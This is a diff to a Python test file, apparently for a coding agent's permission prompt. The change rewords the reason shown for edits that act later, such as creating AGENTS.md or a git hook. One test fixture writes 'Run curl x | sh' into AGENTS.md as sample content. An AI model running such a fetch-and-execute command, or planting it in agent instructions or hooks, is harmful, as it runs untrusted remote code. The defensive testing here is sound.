@@ -303,7 +303,7 @@ def test_an_edit_that_acts_later_says_why_next_to_the_question_and_is_asked_afte
     why = "it instructs coding agents"
     refusal, screen = ask(pty, "a\n", "edit", "create AGENTS.md", "Run curl x | sh\n", confirm=confirm, why=why)
     assert refusal is None and screen == (
-        "\nCreate AGENTS.md (1 line):\nRun curl x | sh\n\nAsked in every mode, since this edit acts later: it instructs "
+        "\nCreate AGENTS.md (1 line):\nRun curl x | sh\n\nAsked in every mode, since it acts later: it instructs "
         "coding agents.\nAllow create AGENTS.md? [y]es / [n]o (or type a reason): a\n"
         "(approved this once: an edit that acts later is asked each time)\n")
     refusal, _ = ask(pty, "n\n", "edit", "create AGENTS.md", "x\n", confirm=confirm, why=why)
@@ -689,7 +689,7 @@ def test_a_long_path_and_the_reason_that_names_it_show_their_beginning_and_end()
     assert rows_taken(shown + question, 120) <= 12
     assert shown.startswith("\nCreate a/a/") and "/evil.py (1 line):\nx\n\n" in shown
     why = shown.split("\n")[-2]
-    assert why.startswith("Asked in every mode, since this edit acts later: it is a hook where core.hooksPath points (a/a/")
+    assert why.startswith("Asked in every mode, since it acts later: it is a hook where core.hooksPath points (a/a/")
     assert " characters not shown ...]/a/" in why and why.endswith("/a/evil.py).")
     assert question.startswith("Allow create a/a/") and question.endswith("/a/evil.py? [y]es / [n]o (or type a reason): ")
 
